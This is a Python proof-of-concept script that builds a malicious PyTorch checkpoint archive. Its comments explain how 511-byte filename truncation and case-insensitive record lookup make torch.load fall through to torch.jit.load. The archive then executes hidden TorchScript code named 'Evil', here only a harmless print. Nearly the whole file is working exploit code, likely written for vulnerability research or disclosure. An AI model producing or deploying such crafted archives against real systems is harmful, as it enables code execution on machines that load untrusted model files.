# getAllRecords copies each name into char buf[512] (MZ_ZIP_MAX_ARCHIVE_FILENAME_SIZE): names are cut at 511 bytes.
# With a 497-byte prefix P, "P/constants.pklX" becomes "constants.pkl" in get_all_records() ->
# torch.load dispatches to torch.jit.load. jit's own lookups (getRecord/hasRecord) go through miniz's
# case-insensitive binary search, so "P/Constants.pkl" and "P/Code/..." serve as constants.pkl and code/.
import sys, zlib
import os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'round7'))
from zlib7 import lh, ch, eocd
out = sys.argv[1]
P = b'a' * 497
benign = b'\x80\x02}q\x00.'
import os
CONST = b'\x80\x02c__torch__.evil\nEvil\n)\x81K\x01b\x85.' if os.environ.get('EVIL') else b'\x80\x02)\x85.'
ts = b'class Evil(object):\n  def __setstate__(self, state: int) -> None:\n    print("TORCHSCRIPT RAN")\n    return None\n'
recs = [(P + b'/data.pkl', benign), (P + b'/version', b'3\n'),
        (P + b'/constants.pklX', b''),          # -> "constants.pkl" after the 511-byte cut
        (P + b'/Constants.pkl', CONST),          # found by jit's case-insensitive getRecord("constants.pkl")
        (P + b'/Code/__torch__/evil.py', ts)]   # found by jit's source importer ("code/__torch__/evil.py")
f = bytearray(); cd = b''
for name, data in recs:
    off = len(f); f += lh(name, len(data), len(data), zlib.crc32(data)); f += data
    cd += ch(name, len(data), len(data), off, zlib.crc32(data))
cdoff = len(f); f += cd; f += eocd(len(recs), len(cd), cdoff)
open(out, 'wb').write(f)
